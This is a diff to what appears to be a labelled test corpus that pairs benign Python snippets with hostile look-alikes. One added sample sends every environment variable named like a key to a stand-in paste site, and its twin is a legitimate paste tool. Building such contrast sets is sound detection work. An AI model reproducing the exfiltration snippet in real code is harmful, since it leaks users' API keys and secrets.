@@ -1074,6 +1074,23 @@ _twin("build-info-upload", T, "a CI helper posts the commit it built (git rev-pa
         commit = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip()
         return requests.post('https://ci.example.invalid/builds', json={'commit': commit})
     """)
+_twin("paste-tool-with-its-key", T, "a paste tool posts the user's text with the API key it reads from the environment", L, """
+    import os
+    import requests
+
+
+    def paste(text):
+        form = {'api_dev_key': os.environ['PASTEBIN_API_KEY'], 'api_option': 'paste', 'api_paste_code': text}
+        return requests.post('https://pastebin.com.example.invalid/api/api_post.php', data=form).text
+    """)
+_each("env-keys-to-a-paste-site", T, "every variable named like a key pasted to a paste site", """
+    import os
+    import urllib.parse
+    import urllib.request
+    for name in [k for k in os.environ if 'KEY' in k.upper()]:
+        form = urllib.parse.urlencode({'api_paste_code': os.environ[name]}).encode()
+        urllib.request.urlopen('https://pastebin.com.example.invalid/api/api_post.php', data=form)
+    """, (S, I))
 _twin("twine-like-upload", T, "an upload tool reads ~/.pypirc and posts a distribution", L, """
     import configparser
     import os
